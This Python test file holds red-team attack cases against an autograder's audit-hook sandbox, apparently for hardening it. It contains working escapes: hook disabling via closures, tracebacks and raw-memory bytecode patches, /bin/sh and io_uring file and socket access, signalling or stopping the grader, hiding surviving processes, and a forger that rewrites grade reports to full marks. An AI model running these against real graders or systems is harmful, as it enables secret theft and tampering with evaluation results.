"""Attacks of classes 1, 2 and 7: the hook switched off, unaudited native code, survivors (and the new
escapes that need the hook off first: exec of /bin/sh, io_uring).

Each entry: ``klass``, ``title``, ``route`` (one line), ``proves`` (the proofs it goes for; see
tests/support/redteam.py), ``baseline``, ``blocks`` (module -> list of (where, code)) and optional
``minimal`` (the proofs expected under ``--sandbox minimal``), ``baseline_note``, ``needs_batch``.
``where`` is ``"top"`` (after the imports), ``"before:<qualname>"`` (module level, before that
definition), ``"start:<qualname>"`` (first statement of its body), ``"end:<qualname>"`` (before its
last ``return``) or ``"after:<qualname>:<text>"`` (after the body line that contains text).
"""

from _snippets import BATTERY, CTYPES_MEM, FIND_POLICY, HOOK_OFF, PATCH_HOOK, RAWMEM, REPORT, TRIGGER

ATTACKS = {}
#: What an attack that has switched the audit hook off goes for: everything the battery tries.
EVERY_ESCAPE = ["secret_in_report", "grader_secret_in_report", "solution_in_report", "victim_changed", "new_file",
                "listener_tcp", "listener_udp", "listener_unix", "dummy_signaled", "grader_stopped", "survivor"]


def rel_error_attack(code: str) -> dict:
    """The usual layout: the attack runs on the grader's first direct call of rel_error."""
    return {"gradient_check.py": [("top", REPORT + code), ("start:rel_error", TRIGGER)]}


# ----------------------------------------------------------------------------------- class 1
ATTACKS["hook_off_forkexec_closure"] = {
    "klass": 1,
    "title": "Switch the audit hook off from pure Python: the policy's stand-in for fork_exec closes over `deny`",
    "route": "subprocess._fork_exec.__closure__ holds the policy's `deny` cell, shared by every check of the hook: "
          "set it to a no-op, then read, write, connect, signal and fork freely",
    "proves": EVERY_ESCAPE,
    "blocks": rel_error_attack(BATTERY + r'''

def _rt_escape():
    import os
    import subprocess
    import sys
    noop = lambda *a, **k: None  # noqa: E731
    hits = 0
    psub = sys.modules.get("_posixsubprocess")
    for fn in (getattr(psub, "fork_exec", None), getattr(subprocess, "_fork_exec", None)):
        code = getattr(fn, "__code__", None)
        if code is None:
            continue  # a C function: nothing to reach here
        for name, cell in zip(code.co_freevars, fn.__closure__ or ()):
            if name == "deny":
                cell.cell_contents = noop
                hits += 1
    if not hits:
        return "no deny cell reachable"
    _rt_clear_violations()
    return "deny cell replaced; " + battery(RT, os.getppid())
'''),
}

ATTACKS["hook_off_traceback"] = {
    "klass": 1,
    "title": "Switch the audit hook off through the traceback of one denial",
    "route": "os.listdir('/') is denied; the PolicyViolation's __traceback__ holds the hook's frames, whose f_locals "
          "are the policy's closures: set their `deny` cell to a no-op and clear the violations",
    "proves": EVERY_ESCAPE,
    "blocks": rel_error_attack(HOOK_OFF + BATTERY + r'''

def _rt_escape():
    import os
    hits = _rt_hook_off()
    if not hits:
        return "no deny cell in the traceback"
    return "deny cells replaced: %d; %s" % (hits, battery(RT, os.getppid()))
'''),
}

ATTACKS["hook_off_fspath_reentry"] = {
    "klass": 1,
    "title": "Switch the audit hook off by re-entering it: a patched PurePath.__fspath__ runs inside the hook",
    "route": "glob.glob audits its argument unconverted and the hook calls os.fspath() on a PosixPath, so a patched "
          "__fspath__ runs inside the hook, walks sys._getframe() into its frames and overwrites `deny`",
    "proves": EVERY_ESCAPE,
    "blocks": rel_error_attack(BATTERY + r'''

def _rt_escape():
    import glob
    import os
    import pathlib
    import sys
    found = {}
    original = pathlib.PurePath.__fspath__

    def spy(self):
        f = sys._getframe(1)
        while f is not None:
            for value in list(f.f_locals.values()):
                code = getattr(value, "__code__", None)
                if code is not None and "deny" in code.co_freevars and getattr(value, "__closure__", None):
                    found[id(value)] = value
            f = f.f_back
        return original(self)

    pathlib.PurePath.__fspath__ = spy
    try:
        try:
            glob.glob(pathlib.PosixPath(os.getcwd()))
        except Exception:  # noqa: BLE001 - glob itself may not like a PosixPath
            pass
    finally:
        pathlib.PurePath.__fspath__ = original
    noop = lambda *a, **k: None  # noqa: E731
    hits = 0
    for fn in found.values():
        for name, cell in zip(fn.__code__.co_freevars, fn.__closure__):
            if name == "deny":
                cell.cell_contents = noop
                hits += 1
    if not hits:
        return "the hook never called back into student code"
    return "deny cell replaced from inside the hook; " + battery(RT, os.getppid())
'''),
}

ATTACKS["hook_off_policy_globals"] = {
    "klass": 1,
    "title": "Switch the process, signal and network checks off: the hook reads its event tables from module globals",
    "route": "sys.modules['_linclass_policy']._PROCESS_EVENTS/_SIGNAL_EVENTS/_NETWORK_PREFIXES = (): the hook looks "
          "them up at every call; then sockets (TCP, UDP, abstract unix) and os.kill pass (files stay denied)",
    "proves": ["listener_tcp", "listener_udp", "listener_unix", "dummy_signaled", "grader_stopped"],
    "blocks": rel_error_attack(FIND_POLICY + BATTERY + r'''

def _rt_escape():
    import os
    pol = _rt_policy_module()
    if pol is None:
        return "policy module not found"
    pol._PROCESS_EVENTS = ()
    pol._SIGNAL_EVENTS = ()
    pol._NETWORK_PREFIXES = ("\x00never",)
    pol._GC_EVENTS = ()
    return "policy tables emptied; " + battery(RT, os.getppid(), survivor=False, files=False)
'''),
}

ATTACKS["hook_off_numpy_bytecode"] = {
    "klass": 1,
    "title": "Switch the audit hook off through numpy raw memory: its bytecode is patched to return at once",
    "route": "the hook's code object is a constant of policy.install.__code__; np.asarray(obj with __array_interface__ "
          "{'data': (id(code)+offset, False)}) writes LOAD_CONST None; RETURN_VALUE after its prologue (no ctypes)",
    "proves": EVERY_ESCAPE,
    "minimal": {"expect": EVERY_ESCAPE,
                "note": "--sandbox minimal is the audit hook plus rlimits: an in-process hook can always be "
                        "switched off through raw memory, and the process then has the grader's uid, filesystem, "
                        "network and process table (the documented weaker level)"},
    "blocks": rel_error_attack(FIND_POLICY + RAWMEM + PATCH_HOOK + BATTERY + r'''

def _rt_escape():
    import os
    failed = _rt_patch_hook()
    if failed:
        return failed
    return "hook bytecode patched to return None; " + battery(RT, os.getppid())
'''),
}

ATTACKS["hook_off_ctypes_subclasses"] = {
    "klass": 1,
    "title": "Switch the audit hook off through the ctypes the bootstrap forgot: _ctypes' classes stay reachable",
    "route": "object.__subclasses__() -> _ctypes._CData -> _SimpleCData, _Pointer, Union: a union of a void pointer "
          "and a char pointer reads and writes any address with no import and no audit event; the hook's bytecode "
          "is patched as in hook_off_numpy_bytecode",
    "proves": EVERY_ESCAPE,
    "minimal": {"expect": EVERY_ESCAPE,
                "note": "--sandbox minimal is the audit hook plus rlimits: _ctypes is a C extension that is never "
                        "unloaded, so its classes stay reachable and give raw memory (SECURITY.md section 3); the "
                        "process then has the grader's uid, filesystem, network and process table"},
    "blocks": rel_error_attack(FIND_POLICY + CTYPES_MEM + PATCH_HOOK + BATTERY + r'''

def _rt_escape():
    import os
    failed = _rt_patch_hook()
    if failed:
        return "ctypes route: " + failed
    return "hook bytecode patched through _ctypes' classes; " + battery(RT, os.getppid())
'''),
}

ATTACKS["exec_shell"] = {
    "klass": 1,
    "title": "Hook off (traceback route), then execve /bin/sh: a shell reads the secret and writes outside",
    "route": "after _rt_hook_off(), os.posix_spawn('/bin/sh', ['sh', '-c', script]) with stdout on a pipe: the shell "
          "cats the secret and overwrites the victim; a kernel sandbox must refuse execve itself",
    "proves": ["secret_in_report", "victim_changed", "new_file"],
    "blocks": rel_error_attack(HOOK_OFF + r'''

def _rt_escape():
    import os
    hits = _rt_hook_off()
    S, tag = RT["sentinel"], RT["tag"]
    if not _rt_root_ok(S + "/victim.txt"):
        return "not armed (hook cells %d)" % hits
    script = "; ".join([
        'cat "$S/secret.txt"',
        'printf "PWNED by %s %s via /bin/sh\\n" "$NAME" "$TAG" > "$S/victim.txt"',
        'echo shell > "$S/new-$NAME-$TAG.txt"',
        'echo " sh-ran"',
    ])
    env = {"S": S, "TAG": tag, "NAME": RT["name"], "PATH": "/usr/bin:/bin"}
    r, w = os.pipe()
    try:
        pid = os.posix_spawn("/bin/sh", ["sh", "-c", script], env,
                             file_actions=[(os.POSIX_SPAWN_DUP2, w, 1), (os.POSIX_SPAWN_DUP2, w, 2),
                                           (os.POSIX_SPAWN_CLOSE, r)])
    finally:
        os.close(w)
    out = b""
    while True:
        chunk = os.read(r, 4096)
        if not chunk:
            break
        out += chunk
    os.close(r)
    os.waitpid(pid, 0)
    return "hook cells %d; /bin/sh said: %s" % (hits, out.decode(errors="replace").strip())
'''),
}

IOURING = r'''
class _RtRing:
    """A minimal io_uring (io_uring_setup/io_uring_enter through ctypes, rings through mmap)."""

    def __init__(self, entries=4):
        import ctypes
        import mmap
        import struct
        self.ctypes, self.struct = ctypes, struct
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.syscall.restype = ctypes.c_long
        params = ctypes.create_string_buffer(120)
        fd = self.libc.syscall(425, ctypes.c_uint(entries), params)  # io_uring_setup
        if fd < 0:
            err = ctypes.get_errno()
            raise OSError(err, "io_uring_setup refused")
        self.fd = fd
        raw = params.raw
        sq_entries, cq_entries, _flags, _cpu, _idle, features, _wq = struct.unpack_from("<7I", raw, 0)
        self.sq_off = struct.unpack_from("<7I", raw, 40)  # head tail ring_mask ring_entries flags dropped array
        self.cq_off = struct.unpack_from("<6I", raw, 80)  # head tail ring_mask ring_entries overflow cqes
        sq_size = self.sq_off[6] + sq_entries * 4
        cq_size = self.cq_off[5] + cq_entries * 16
        rw = mmap.PROT_READ | mmap.PROT_WRITE
        if features & 1:  # IORING_FEAT_SINGLE_MMAP
            sq_size = cq_size = max(sq_size, cq_size)
        self.sq = mmap.mmap(fd, sq_size, mmap.MAP_SHARED, rw, offset=0)
        self.cq = self.sq if features & 1 else mmap.mmap(fd, cq_size, mmap.MAP_SHARED, rw, offset=0x8000000)
        self.sqes = mmap.mmap(fd, sq_entries * 64, mmap.MAP_SHARED, rw, offset=0x10000000)
        self.keep = []

    def submit(self, opcode, fd=0, off=0, addr=0, length=0, op_flags=0):
        st = self.struct
        tail = st.unpack_from("<I", self.sq, self.sq_off[1])[0]
        index = tail & st.unpack_from("<I", self.sq, self.sq_off[2])[0]
        self.sqes[index * 64:(index + 1) * 64] = st.pack("<BBHiQQIIQ24x", opcode, 0, 0, fd, off, addr, length,
                                                         op_flags, 7)
        st.pack_into("<I", self.sq, self.sq_off[6] + index * 4, index)
        st.pack_into("<I", self.sq, self.sq_off[1], tail + 1)
        if self.libc.syscall(426, self.fd, 1, 1, 1, None, 0) < 0:  # io_uring_enter(.., GETEVENTS)
            raise OSError(self.ctypes.get_errno(), "io_uring_enter failed")
        head = st.unpack_from("<I", self.cq, self.cq_off[0])[0]
        mask = st.unpack_from("<I", self.cq, self.cq_off[2])[0]
        _user, res, _fl = st.unpack_from("<QiI", self.cq, self.cq_off[5] + (head & mask) * 16)
        st.pack_into("<I", self.cq, self.cq_off[0], head + 1)
        if res < 0:
            raise OSError(-res, "io_uring op %d failed" % opcode)
        return res

    def openat(self, path, flags, mode=0o644):
        buf = self.ctypes.create_string_buffer(path.encode())
        self.keep.append(buf)
        return self.submit(18, fd=-100, addr=self.ctypes.addressof(buf), length=mode, op_flags=flags)  # OPENAT

    def tcp(self, port):
        import socket
        sock = self.submit(45, fd=socket.AF_INET, off=socket.SOCK_STREAM, length=0)  # IORING_OP_SOCKET
        addr = self.struct.pack("=H", socket.AF_INET) + self.struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
        buf = self.ctypes.create_string_buffer(addr, len(addr))
        self.keep.append(buf)
        self.submit(16, fd=sock, off=len(addr), addr=self.ctypes.addressof(buf))  # IORING_OP_CONNECT
        return sock
'''

ATTACKS["io_uring_ops"] = {
    "klass": 1,
    "title": "Hook off, then io_uring: open files and connect a socket without the openat/socket/connect syscalls",
    "route": "after _rt_hook_off(), ctypes io_uring_setup + mmap'd rings: IORING_OP_OPENAT reads the secret and "
          "creates a file, IORING_OP_SOCKET + CONNECT reach the TCP listener (a syscall filter must refuse io_uring)",
    "proves": ["secret_in_report", "new_file", "listener_tcp"],
    "blocks": rel_error_attack(HOOK_OFF + IOURING + r'''

def _rt_escape():
    import os
    hits = _rt_hook_off()
    ev = ["hook cells %d" % hits]
    S = RT["sentinel"]
    try:
        ring = _RtRing()
    except BaseException as exc:  # noqa: BLE001
        return "no io_uring: %s: %s" % (type(exc).__name__, exc)

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def secret():
        fd = ring.openat(S + "/secret.txt", os.O_RDONLY)
        try:
            return os.read(fd, 4096).decode().strip()
        finally:
            os.close(fd)

    def new_file():
        path = "%s/new-%s-%s.txt" % (S, RT["name"], RT["tag"])
        if not _rt_root_ok(path):
            raise RuntimeError("not armed")
        fd = ring.openat(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL)
        os.write(fd, b"created through io_uring\n")
        os.close(fd)

    def tcp():
        fd = ring.tcp(int(RT["tcp"]))
        os.write(fd, ("RTNET %s %s\n" % (RT["name"], RT["tag"])).encode())
        os.close(fd)

    step("secret", secret)
    step("newfile", new_file)
    step("tcp", tcp)
    return "io_uring: " + " ".join(ev)
'''),
}

# ----------------------------------------------------------------------------------- class 2
HELPER = BATTERY + r'''
import json, os, sys
rt = json.loads(sys.argv[1])
print(battery(rt, rt["grader_pid"]), flush=True)
'''

FORK_EXEC = r'''
def _rt_fork_exec():
    """A fresh, real fork_exec: the same .so loaded again under a dotted name the policy does not know."""
    import importlib.machinery
    import importlib.util
    import math
    import os
    dyn = os.path.dirname(math.__file__)  # lib-dynload (readable: it is the stdlib)
    name = [n for n in os.listdir(dyn) if n.startswith("_posixsubprocess.")][0]
    path = os.path.join(dyn, name)
    loader = importlib.machinery.ExtensionFileLoader("rt_alias._posixsubprocess", path)
    spec = importlib.util.spec_from_file_location("rt_alias._posixsubprocess", path, loader=loader)
    return importlib.util.module_from_spec(spec).fork_exec


def _rt_spawn(fork_exec, argv, out_fd=-1, err_fd=-1):
    """fork_exec(argv) with an empty environment in a new session; returns (pid, exec error)."""
    import os
    er, ew = os.pipe()
    pid = fork_exec([os.fsencode(a) for a in argv], [os.fsencode(argv[0])], True, (ew,), None, [],
                    -1, -1, -1, out_fd, -1, err_fd, er, ew, True, True, -1, None, None, None, -1, None, False)
    os.close(ew)
    err = os.read(er, 4096)
    os.close(er)
    return pid, err
'''

ATTACKS["ext_alias_posixsubprocess"] = {
    "klass": 2,
    "title": "Unaudited native code: _posixsubprocess loaded again under another dotted name gives a real fork_exec",
    "route": "ExtensionFileLoader('rt_alias._posixsubprocess', lib-dynload/_posixsubprocess.so): the import event "
          "names the alias; its fork_exec starts python -I -S -c BATTERY, unhooked and unmarked",
    "proves": EVERY_ESCAPE,
    "blocks": rel_error_attack("_RT_HELPER = " + repr(HELPER) + "\n\n" + FORK_EXEC + r'''

def _rt_escape():
    import json
    import os
    import sys
    fork_exec = _rt_fork_exec()
    rt = dict(RT, grader_pid=os.getppid())
    r, w = os.pipe()
    try:
        pid, err = _rt_spawn(fork_exec, [sys.executable, "-I", "-S", "-c", _RT_HELPER, json.dumps(rt)], w, w)
    finally:
        os.close(w)
    chunks = []
    while True:
        b = os.read(r, 65536)
        if not b:
            break
        chunks.append(b)
    os.close(r)
    os.waitpid(pid, 0)
    return "fresh fork_exec ran an unhooked helper: " + (err + b"".join(chunks)).decode(errors="replace").strip()
'''),
}

ATTACKS["fresh_builtin_posix"] = {
    "klass": 2,
    "title": "Functions the policy deleted come back fresh: _imp.create_builtin('posix') has mknod, mkfifo, pidfd_open",
    "route": "_imp.create_builtin(ModuleSpec('posix'/'_signal')) gives new module objects, no audit event: mknod and "
          "mkfifo in the sentinel folder, pidfd_send_signal SIGUSR1 to the dummy and SIGSTOP/SIGCONT to the grader",
    "proves": ["new_file", "dummy_signaled", "grader_stopped"],
    "blocks": rel_error_attack(r'''

def _rt_escape():
    import _imp
    import importlib.machinery
    import os
    import signal
    import stat
    import time

    def fresh(name):
        spec = importlib.machinery.ModuleSpec(name, importlib.machinery.BuiltinImporter, origin="built-in")
        module = _imp.create_builtin(spec)
        _imp.exec_builtin(module)
        return module

    px, sg = fresh("posix"), fresh("_signal")
    ev = ["fresh posix has mknod=%s pidfd_open=%s; fresh _signal has pidfd_send_signal=%s" % (
        hasattr(px, "mknod"), hasattr(px, "pidfd_open"), hasattr(sg, "pidfd_send_signal"))]
    S = RT["sentinel"]

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def ours(pid, cwd):
        return pid > 1 and bool(cwd) and _rt_root_ok(cwd) and os.readlink("/proc/%d/cwd" % pid) == cwd

    def send(pid, sig):
        fd = px.pidfd_open(pid)
        try:
            sg.pidfd_send_signal(fd, sig)
        finally:
            os.close(fd)

    def dummy():
        pid = int(RT["dummy"] or 0)
        try:
            if not ours(pid, RT["dummy_cwd"]):
                raise RuntimeError("pid %d is not the dummy" % pid)
        except OSError:  # /proc hides it: the dummy lives as long as the run, its pid is still its own
            if pid <= 1 or not _rt_root_ok(RT["dummy_cwd"]):
                raise
        send(pid, signal.SIGUSR1)

    def grader():
        pid = os.getppid()
        if not ours(pid, RT["grader_cwd"]):
            raise RuntimeError("grader not visible")
        send(pid, signal.SIGSTOP)
        time.sleep(0.4)
        send(pid, signal.SIGCONT)
        return "stopped:%d" % pid

    def made(path, fn):
        if not _rt_root_ok(path):
            raise RuntimeError("not armed")
        fn(path)

    step("newfile", lambda: made("%s/new-%s-%s.txt" % (S, RT["name"], RT["tag"]),
                                 lambda p: px.mknod(p, 0o644 | stat.S_IFREG)))
    step("fifo", lambda: made("%s/new-fifo-%s-%s" % (S, RT["name"], RT["tag"]), px.mkfifo))
    step("dummy", dummy)
    step("grader", grader)
    return " ".join(ev)
'''),
}

ATTACKS["signal_fsetown"] = {
    "klass": 2,
    "title": "Signals without os.kill: the kernel sends them for us through fcntl F_SETOWN / F_SETSIG on a pipe",
    "route": "fcntl(r, F_SETOWN, pid); fcntl(r, F_SETSIG, sig); O_ASYNC; write to the pipe: the kernel signals pid "
             "(the fcntl audit event is not denied): SIGUSR1 to the dummy, SIGSTOP then SIGCONT to the grader",
    "proves": ["dummy_signaled", "grader_stopped"],
    "blocks": rel_error_attack(r'''

def _rt_escape():
    import fcntl
    import os
    import signal
    import time
    F_SETSIG = 10  # Linux
    ev = []

    def through_pipe(pid, sig):
        r, w = os.pipe()
        try:
            fcntl.fcntl(r, fcntl.F_SETOWN, pid)
            fcntl.fcntl(r, F_SETSIG, sig)
            fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
            os.write(w, b"x")  # r is readable now: the kernel sends sig to its owner
            time.sleep(0.05)
        finally:
            os.close(r)
            os.close(w)

    def step(key, fn):
        try:
            got = fn()
            ev.append(key + "=" + (got if isinstance(got, str) else "ok"))
        except BaseException as exc:  # noqa: BLE001
            ev.append(key + ":FAILED(" + type(exc).__name__ + ": " + str(exc)[:60] + ")")

    def dummy():
        pid = int(RT["dummy"] or 0)
        try:
            if os.readlink("/proc/%d/cwd" % pid) != RT["dummy_cwd"]:
                raise RuntimeError("pid %d is not the dummy" % pid)
        except OSError:  # /proc hides it: the dummy lives as long as the run, its pid is still its own
            if pid <= 1 or not _rt_root_ok(RT["dummy_cwd"]):
                raise
        through_pipe(pid, signal.SIGUSR1)

    def grader():
        pid = os.getppid()
        if pid <= 1 or not _rt_root_ok(RT["grader_cwd"]) or os.readlink("/proc/%d/cwd" % pid) != RT["grader_cwd"]:
            raise RuntimeError("the grader (pid %d) is not visible" % pid)
        through_pipe(pid, signal.SIGSTOP)
        time.sleep(0.4)
        through_pipe(pid, signal.SIGCONT)
        return "stopped:%d" % pid

    step("dummy", dummy)
    step("grader", grader)
    return "F_SETOWN: " + " ".join(ev)
'''),
}

SUBINTERP = BATTERY + r'''
import json, os, subprocess
rt = json.loads(RT_JSON)


def spawn(argv):
    # os.fork is refused in subinterpreters, subprocess is not (and this subprocess is a fresh
    # import, without the policy's fork_exec stand-in): exec sleep in a new session, empty env.
    subprocess.Popen(argv, executable="/bin/sleep", env={}, start_new_session=True, close_fds=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


os.write(OUT_FD, battery(rt, rt["grader_pid"], spawn=spawn).encode())
'''

ATTACKS["subinterpreter_no_hook"] = {
    "klass": 2,
    "title": "Code run where no audit hook exists: _xxsubinterpreters makes a fresh interpreter in the same process",
    "route": "_xxsubinterpreters.create(); run_string(BATTERY): audit hooks belong to one interpreter, so the new one "
          "opens any file, makes sockets and starts processes; the evidence returns on a pipe",
    "proves": EVERY_ESCAPE,
    "blocks": rel_error_attack("_RT_SUBINTERP = " + repr(SUBINTERP) + r'''


def _rt_escape():
    import json
    import os
    import _xxsubinterpreters as interpreters  # lib-dynload, not denied
    r, w = os.pipe()
    rt = dict(RT, grader_pid=os.getppid())
    code = _RT_SUBINTERP.replace("RT_JSON", repr(json.dumps(rt))).replace("OUT_FD", str(w))
    try:
        interp = interpreters.create(isolated=False)  # 3.11: a legacy, non-isolated interpreter
    except TypeError:
        interp = interpreters.create()
    try:
        interpreters.run_string(interp, code)
    finally:
        os.close(w)
        interpreters.destroy(interp)
    out = os.read(r, 65536).decode(errors="replace")
    os.close(r)
    return "subinterpreter without hooks: " + out
'''),
}

# ----------------------------------------------------------------------------------- class 7
ATTACKS["survivor_envwipe_fork"] = {
    "klass": 7,
    "title": "Evade the process sweep without exec: fork twice, then wipe the sandbox marker from the environment",
    "route": "_PROCESS_EVENTS = () lets os.fork through; env/argv addresses come from /proc/self/stat; a numpy raw view "
          "zeroes the LINCLASS_SANDBOX=<nonce> block in the grandchild (own session): the sweep cannot see it",
    "proves": ["survivor"],
    "blocks": rel_error_attack(FIND_POLICY + RAWMEM + r'''

def _rt_escape():
    import os
    import time
    if not _rt_root_ok(RT["sentinel"] + "/x"):
        return "not armed"
    pol = _rt_policy_module()
    if pol is None:
        return "policy module not found"
    pol._PROCESS_EVENTS = ()
    spots = None
    try:
        with open("/proc/%d/stat" % os.getpid(), "rb") as fh:  # /proc/<own pid>/stat is allowed
            fields = fh.read().rpartition(b")")[2].split()
        spots = [int(fields[n - 3]) for n in (48, 49, 50, 51)]
    except OSError as exc:
        note = "no /proc/self/stat (%s): forking without the wipe" % exc
    else:
        note = "environment wiped"
    tag = ("redteam-survivor-%s-%s" % (RT["name"], RT["tag"])).encode()
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                if spots:
                    arg_start, arg_end, env_start, env_end = spots
                    env = _rt_mem(env_start, env_end - env_start)
                    env[:] = 0  # no LINCLASS_SANDBOX=<nonce> left in /proc/<pid>/environ
                    argv = _rt_mem(arg_start, arg_end - arg_start)
                    argv[:] = 0
                    argv[:min(len(tag), len(argv) - 1)] = list(tag[:len(argv) - 1])
                fd = os.open("/dev/null", os.O_RDWR)
                for i in (0, 1, 2):
                    os.dup2(fd, i)
                os.closerange(3, 4096)
                deadline = time.time() + 60
                while time.time() < deadline:
                    time.sleep(0.5)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.2)
    return "forked a survivor: " + note
'''),
}

FORGER = r'''
import json, os, sys, time
rt = json.loads(sys.argv[1])
marker = "RTLEAK[%s]" % rt["name"]
root = rt["root"].rstrip("/") + "/"
fd = os.open("/dev/null", os.O_RDWR)
for i in (0, 1, 2):
    os.dup2(fd, i)
os.closerange(3, 4096)
if os.fork():
    os._exit(0)


def report_root(pid):
    """--out of the grader, or of the ancestor that has it (a batch worker's parent), from /proc."""
    for _ in range(8):
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as fh:
                args = fh.read().split(b"\0")
            cwd = os.readlink("/proc/%d/cwd" % pid)
            with open("/proc/%d/stat" % pid, "rb") as fh:
                parent = int(fh.read().rpartition(b")")[2].split()[1])
        except (OSError, ValueError, IndexError):
            return None
        if b"--out" in args:
            return os.path.join(cwd, args[args.index(b"--out") + 1].decode())
        pid = parent
    return None


out = report_root(int(rt["grader_pid"]))
if out is None or not os.path.abspath(out).startswith(root):
    os._exit(0)
deadline = time.time() + 120
seen = {}
while time.time() < deadline:
    try:
        names = os.listdir(out)
    except OSError:
        names = []
    for name in names:
        path = os.path.join(out, name, "results.json")
        try:
            st = os.stat(path)
            if seen.get(path) == (st.st_ino, st.st_mtime_ns):
                continue
            with open(path) as fh:
                text = fh.read()
            data = json.loads(text)
        except (OSError, ValueError):
            continue
        if marker not in text or data.get("score") == data.get("max_score"):
            continue
        for t in data.get("tests", []):
            t["score"] = t.get("max_score", t.get("score"))
            t["status"] = "passed"
        data["score"] = data.get("max_score", 100.0)
        data["output"] = "Student %s: %g / %g points. %s" % (name, data["score"], data["score"], marker)
        tmp = path + ".rt"
        with open(tmp, "w") as fh:
            json.dump(data, fh)
        os.replace(tmp, path)
        with open(os.path.join(out, name, "feedback.md"), "w") as fh:
            fh.write("# Feedback for %s\n\n**Score: %g / %g**\n\nEvery check passed.\n" % (
                name, data["score"], data["score"]))
        st = os.stat(path)
        seen[path] = (st.st_ino, st.st_mtime_ns)
    time.sleep(0.005)
'''

ATTACKS["survivor_report_forge"] = {
    "klass": 7,
    "title": "A survivor rewrites the student's own report after the grader wrote it",
    "route": "the alias fork_exec of ext_alias_posixsubprocess starts an unhooked python (empty env, own session, double "
          "fork); it finds --out from /proc/<grader>/cmdline and replaces results.json with full marks",
    "proves": ["score_gain", "survivor"],
    "baseline": "mutant:tune_selects_by_train:tune_hyperparameters",
    "baseline_note": "the one-bug mutant whose tune_hyperparameters selects by training accuracy (loses 4 points)",
    "blocks": rel_error_attack("_RT_FORGER = " + repr(FORGER) + "\n\n" + FORK_EXEC + r'''

def _rt_escape():
    import json
    import os
    import sys
    if not _rt_root_ok(RT["sentinel"] + "/x"):
        return "not armed"
    rt = dict(RT, grader_pid=os.getppid())
    argv = [sys.executable, "-I", "-S", "-c", _RT_FORGER, json.dumps(rt),
            "redteam-survivor-%s-%s" % (RT["name"], RT["tag"])]
    pid, err = _rt_spawn(_rt_fork_exec(), argv)
    os.waitpid(pid, 0)
    return "report forger started" + (": " + err.decode() if err else "")
'''),
}
